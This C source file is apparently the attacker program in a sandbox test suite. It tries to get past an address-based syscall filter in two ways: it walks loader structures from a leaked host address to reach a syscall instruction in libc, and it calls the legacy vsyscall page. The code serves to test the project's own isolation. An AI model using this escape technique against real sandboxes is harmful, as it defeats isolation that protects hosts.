/*
 * host_code.c — the attacker's attempts to make a host syscall with a
 * `syscall` instruction that is not in its own code, so that a filter on
 * the instruction's address would let it through:
 *  - one in libc: in isolation `none` the link page holds the gate's host
 *    address, from which the attacker walks, with plain loads, to pwsim's
 *    ELF header, its dynamic section's DT_DEBUG, the loader's list of
 *    loaded objects, libc's executable segment, and the first `0f 05` in
 *    it, then calls that with write's number (in `mprotect` no host
 *    address is visible, so the walk has nowhere to start);
 *  - the kernel's legacy vsyscall page (a fixed address), whose
 *    gettimeofday would hand it the host's wall clock.
 * Built into attacker.elf.
 */
#include <elf.h>

#include <pwk/user.h>

#include "escape.h"
#include "host_link.h"
#include "protocol.h"

extern struct pwk_host_link *__pwk_host_link;

/* glibc's struct r_debug and struct link_map (public ABI, <link.h>). */
struct loaded_object {
	Elf64_Addr base;
	const char *name;
	const Elf64_Dyn *dynamic;
	const struct loaded_object *next;
};
struct loader_debug {
	int version;
	const struct loaded_object *objects;
};

#define PAGE 4096u

static const Elf64_Phdr *headers(uintptr_t base, unsigned *count)
{
	const Elf64_Ehdr *e = (const Elf64_Ehdr *)base;
	*count = e->e_phnum;
	return (const Elf64_Phdr *)(base + e->e_phoff);
}

/* The host executable's first page: below the gate, contiguous with it. */
static uintptr_t elf_below(uintptr_t code)
{
	uintptr_t p = code & ~(uintptr_t)(PAGE - 1);
	for (unsigned i = 0; i < 65536u; i++, p -= PAGE) {
		const volatile uint8_t *b = (const volatile uint8_t *)p;
		if (b[0] == 0x7f && b[1] == 'E' && b[2] == 'L' && b[3] == 'F') {
			return p;
		}
	}
	return 0;
}

static const struct loader_debug *loader_debug_of(uintptr_t exe)
{
	unsigned n;
	const Elf64_Phdr *ph = headers(exe, &n);
	for (unsigned i = 0; i < n; i++) {
		if (ph[i].p_type != PT_DYNAMIC) {
			continue;
		}
		for (const Elf64_Dyn *d = (const Elf64_Dyn *)(exe + ph[i].p_vaddr);
		     d->d_tag != DT_NULL; d++) {
			if (d->d_tag == DT_DEBUG) {
				return (const struct loader_debug *)d->d_un.d_ptr;
			}
		}
	}
	return 0;
}

static bool names_libc(const char *name)
{
	for (const char *s = name; s != 0 && *s != 0; s++) {
		if (s[0] == 'l' && s[1] == 'i' && s[2] == 'b' && s[3] == 'c' && s[4] == '.') {
			return true;
		}
	}
	return false;
}

/* The first `0f 05` in an executable segment of the object at `base`. */
static uintptr_t syscall_in(uintptr_t base)
{
	unsigned n;
	const Elf64_Phdr *ph = headers(base, &n);
	for (unsigned i = 0; i < n; i++) {
		if (ph[i].p_type != PT_LOAD || (ph[i].p_flags & PF_X) == 0) {
			continue;
		}
		const uint8_t *p = (const uint8_t *)(base + ph[i].p_vaddr);
		for (size_t k = 0; k + 1 < ph[i].p_filesz; k++) {
			if (p[k] == 0x0f && p[k + 1] == 0x05) {
				return (uintptr_t)&p[k];
			}
		}
	}
	return 0;
}

static uintptr_t find_libc_syscall(void)
{
	uintptr_t gate = (uintptr_t)__pwk_host_link->syscall_gate;
	uintptr_t link = (uintptr_t)__pwk_host_link;
	if (gate >= link && gate < link + PAGE) {
		return 0; /* a stub in its own region: no host address to start from */
	}
	uintptr_t exe = elf_below(gate);
	const struct loader_debug *dbg = exe != 0 ? loader_debug_of(exe) : 0;
	for (const struct loaded_object *o = dbg != 0 ? dbg->objects : 0; o != 0; o = o->next) {
		if (names_libc(o->name)) {
			return syscall_in(o->base);
		}
	}
	return 0;
}

static void libc_syscall(void)
{
	static const char text[] = "escaped past the console through libc\n";
	uintptr_t insn = find_libc_syscall();
	if (insn == 0) {
		pwk_log("attacker: no host address to start from\n");
		return;
	}
	pwk_log("attacker: found a syscall instruction in libc\n");
	long nr = 1; /* write(1, text, len) */
	__asm__ volatile("call *%[insn]"
			 : "+a"(nr)
			 : [insn] "r"(insn), "D"(1L), "S"(text), "d"(sizeof(text) - 1)
			 : "rcx", "r11", "memory");
	pwk_log("attacker: host write through libc returned %ld\n", nr);
}

static void vsyscall_time(void)
{
	uint64_t tv[2] = {0, 0};
	/* gettimeofday(&tv, 0) at the vsyscall page's first entry. */
	long ret;
	__asm__ volatile("call *%[entry]"
			 : "=a"(ret)
			 : [entry] "r"(0xffffffffff600000ul), "D"(tv), "S"(0L)
			 : "rcx", "rdx", "r8", "r9", "r10", "r11", "memory");
	pwk_log("attacker: read the host's wall clock %ld: %lx s\n", ret, (unsigned long)tv[0]);
}

void escape_host_code(uint32_t command)
{
	if (command == ESCAPE_LIBC_SYSCALL) {
		libc_syscall();
	} else if (command == ESCAPE_VSYSCALL) {
		vsyscall_time();
	}
}
